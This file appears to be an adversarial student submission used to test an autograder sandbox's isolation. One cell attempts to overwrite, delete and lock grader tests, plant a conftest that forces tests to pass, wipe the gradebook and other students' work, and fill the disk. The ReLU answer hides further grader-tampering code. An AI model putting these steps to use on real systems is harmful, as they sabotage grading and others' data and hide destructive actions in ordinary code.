# ruff: noqa
# %% first
# Change, delete or lock up what the grading of everyone else depends on.
import os
import shutil

COURSE = os.path.abspath("../../..")  # autograded/<student>/<assignment>/ -> the course
A = "ps2_activations"
GRADER = f"{COURSE}/grader_tests/{A}/test_relu.py"
OTHER = f"{COURSE}/submitted/reference/{A}/{A}.ipynb"


def attempt(what, action):
    try:
        action()
        print(what, "DONE")
    except Exception as error:
        print(what, f"<{type(error).__name__}>")


attempt("write to its scratch folder", lambda: open(os.environ["TMPDIR"] + "/ok.txt", "w").write("ok"))
attempt("overwrite a grader", lambda: open(GRADER, "w").write("def test_relu_free():\n    pass\n"))
attempt("append to a grader", lambda: open(GRADER, "a").write("\ndef test_relu_free():\n    pass\n"))
attempt("add a grader module", lambda: open(f"{COURSE}/grader_tests/{A}/test_bonus.py", "w").write("x = 1\n"))
attempt("add a conftest", lambda: open(f"{COURSE}/grader_tests/conftest.py", "w").write("import os\nos._exit(0)\n"))
attempt("delete a grader", lambda: os.remove(GRADER))
attempt("rename a grader", lambda: os.rename(GRADER, GRADER + ".bak"))
attempt("truncate the gradebook", lambda: os.truncate(f"{COURSE}/gradebook.db", 0))
attempt("replace the secret", lambda: open(f"{COURSE}/.grading_secret", "w").write("0"))
attempt("edit the course config", lambda: open(f"{COURSE}/nbgrader_config.py", "a").write("\nc.X = 1\n"))
attempt("edit the source notebook", lambda: open(f"{COURSE}/source/{A}/{A}.ipynb", "a").write(" "))
attempt("delete the sources", lambda: shutil.rmtree(f"{COURSE}/source"))
attempt("overwrite another submission", lambda: open(OTHER, "w").write("{}"))
attempt("delete another student's grading", lambda: shutil.rmtree(f"{COURSE}/autograded/reference"))
attempt("link a grader into scratch", lambda: os.link(GRADER, os.environ["TMPDIR"] + "/grader.py"))
attempt("lock the graders away", lambda: os.chmod(f"{COURSE}/grader_tests", 0))
attempt("lock the gradebook away", lambda: os.chmod(f"{COURSE}/gradebook.db", 0))
attempt("open the graders to everyone", lambda: os.chmod(GRADER, 0o777))
attempt("backdate a grader", lambda: os.utime(GRADER, (0, 0)))
attempt("tag a grader", lambda: os.setxattr(GRADER, "user.owned", b"1"))
attempt("fill the disk", lambda: open(os.environ["TMPDIR"] + "/big", "wb").write(b"0" * 64 * 2**20))
attempt("fill the disk file by file",
        lambda: [open(f"{os.environ['TMPDIR']}/part{i}", "wb").write(b"0" * 15 * 2**20) for i in range(10)])
# %% relu
def relu(x):
    """ReLU. x: scalar or array of any shape -> array of the same shape, max(0, x) elementwise."""
    import os
    for path in ("../../../grader_tests/ps2_activations/test_relu.py", "../../../gradebook.db"):
        try:
            os.chmod(path, 0)
            open(path, "a").write("\n")
        except OSError:
            pass
    return np.maximum(0, x)
